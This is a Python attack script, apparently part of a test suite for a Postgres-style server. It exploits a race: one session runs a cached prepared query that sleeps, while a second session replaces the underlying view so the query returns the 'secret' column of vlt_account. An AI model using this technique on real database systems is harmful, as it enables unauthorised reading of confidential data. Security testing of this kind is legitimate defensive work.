"""Runs a prepared query in one round, which sleeps while another session replaces its view."""

import time

from attacks.frames import SYNC, ask, bind, execute, hear, parse, query, whole
from attacks.talking import Server

WANTS = "read"
TIMES = 5
ASLEEP_SECONDS = 0.5


def attack(server: Server) -> bytes:
    run = bind(b"s") + execute()
    with server.login() as client, server.login() as other:
        ask(other, query(b"CREATE VIEW shown AS SELECT name AS secret FROM customer"))
        ask(client, parse(b"SELECT secret FROM shown", b"s"), SYNC)
        ask(client, run * TIMES, SYNC)
        client.send(whole(b"SELECT pg_sleep(3)"), run * TIMES, SYNC)
        time.sleep(ASLEEP_SECONDS)
        ask(other, query(b"CREATE OR REPLACE VIEW shown AS SELECT secret FROM vlt_account"))
        return hear(client)
